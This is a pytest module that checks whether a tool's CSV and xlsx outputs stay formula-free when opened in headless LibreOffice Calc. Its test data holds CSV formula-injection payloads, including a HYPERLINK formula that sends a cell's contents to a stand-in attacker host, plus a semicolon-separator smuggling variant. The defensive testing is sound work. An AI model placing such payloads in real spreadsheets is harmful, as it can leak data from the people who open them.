"""The fill-in template and the CSV report opened by a real spreadsheet: LibreOffice Calc,
headless, reads each file as an official would (a CSV split on commas, on semicolons as a
vi-VN locale does, or on tabs; the ``.xlsx`` template as it is), and no cell of what it read
is a formula, whatever the entity codes and names of ``--entities`` held.

Skipped where LibreOffice is not installed; ``.ci/run`` installs it
(``apt-get install libreoffice-calc-nogui``).
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from cli_support import run

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = [pytest.mark.usefixtures("cli_on_sample_plan"),
              pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed; "
                                 "install it with: apt-get install libreoffice-calc-nogui")]

#: Codes and names that a spreadsheet would run as formulas, were they written as they are.
HOSTILE = ['=HYPERLINK("http://evil.invalid/"&A1,"x")', "@SUM(1+1)", "+cmd", "-2+3", "=1+1",
           "x;=3+3"]
ENTITIES = (
    "code,name,level,groups,parent,valid_from,valid_to\n"
    '"=HYPERLINK(""http://evil.invalid/""&A1,""x"")",@SUM(1+1),commune,,,,\n'
    "+cmd,-2+3,commune,,,,\n"
    "c1,=1+1,commune,,,,\n"
    "x;=3+3,x;@4,commune,,,,\n"
)
FIGURES = (
    "indicator,entity,level,period,numerator,denominator,value,reported_on,source,note\n"
    'T1.A.1,"=HYPERLINK(""http://evil.invalid/""&A1,""x"")",commune,Q4/2025,5,10,,,,=1+2\n'
    'T1.A.1,+cmd,commune,Q4/2025,7,10,,,,"@x;=2+2"\n'
    "T1.A.1,x;=3+3,commune,Q4/2025,8,10,,,,\n"
)
#: LibreOffice's CSV import options: separator (as a character code), text quote (34: "),
#: character set (76: UTF-8), first line.
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}


def convert(source: Path, to: str, out: Path, infilter: str | None = None) -> Path:
    """``source`` opened and saved again by LibreOffice, as ``to`` (xlsx, csv)."""
    out.mkdir()
    command = [str(SOFFICE), "--headless", f"-env:UserInstallation={(out / 'profile').as_uri()}"]
    if infilter:
        command.append(f"--infilter={infilter}")
    subprocess.run([*command, "--convert-to", to, "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=120)
    return out / f"{source.stem}.{to}"


def formula_cells(xlsx: Path) -> list[str]:
    import openpyxl

    workbook = openpyxl.load_workbook(xlsx)
    return [c.coordinate for sheet in workbook for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


@pytest.fixture
def files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, Path]:
    (tmp_path / "entities.csv").write_text(ENTITIES, encoding="utf-8")
    (tmp_path / "figures.csv").write_text(FIGURES, encoding="utf-8")
    made = {"template.csv": ("template",), "template.xlsx": ("template",),
            "report.csv": ("evaluate", str(tmp_path / "figures.csv"), "--as-of", "2025-12-31")}
    for name, command in made.items():
        code, _, err = run(capsys, *command, "--entities", str(tmp_path / "entities.csv"),
                           *(("--level", "commune", "--period", "Q4/2025")
                             if command[0] == "template" else ()),
                           "--output", str(tmp_path / name))
        assert code == 0, err
    return {name: tmp_path / name for name in made}


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["template.csv", "report.csv"])
def test_libreoffice_makes_no_formula_of_a_csv_file_whatever_its_separator(
        files: dict[str, Path], tmp_path: Path, name: str, separator: str) -> None:
    read = convert(files[name], "xlsx", tmp_path / f"{separator}-out",
                   f"CSV:{SEPARATORS[separator]},34,76,1")
    assert formula_cells(read) == []


def test_libreoffice_makes_no_formula_of_the_xlsx_template(files: dict[str, Path],
                                                           tmp_path: Path) -> None:
    assert formula_cells(convert(files["template.xlsx"], "xlsx", tmp_path / "out")) == []


def test_libreoffice_shows_the_entity_codes_of_the_xlsx_template_as_written(
        files: dict[str, Path], tmp_path: Path) -> None:
    shown = convert(files["template.xlsx"], "csv", tmp_path / "out")
    with shown.open(encoding="utf-8", newline="") as f:
        cells = {cell for row in csv.reader(f) for cell in row}
    assert set(HOSTILE) <= cells
